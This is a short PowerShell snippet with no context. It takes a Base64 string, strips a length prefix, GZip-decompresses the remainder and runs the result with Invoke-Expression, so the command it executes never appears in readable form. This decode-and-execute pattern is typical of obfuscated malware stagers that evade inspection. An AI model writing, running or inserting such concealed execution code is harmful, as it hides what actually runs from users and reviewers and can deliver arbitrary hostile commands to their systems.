$packed = [Convert]::FromBase64String('SwAAAB+LCAAAAAAAAgPLTK1Q0PBLLdf1T8pKTS5R8Est0QtPTXLOyUzNK9HUc8kvz8vJT0wJLinKzEvXUM8oKSmw0tcvLklMT9XLzCtLzMlM0U/SKyg2VNcEAJT5YlVLAAAA')
$ms = New-Object System.IO.MemoryStream
$count = $packed.Length - 4
$ms.Write($packed, 4, $count)
$ms.Position = 0
$gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
iex (New-Object System.IO.StreamReader($gz)).ReadToEnd()
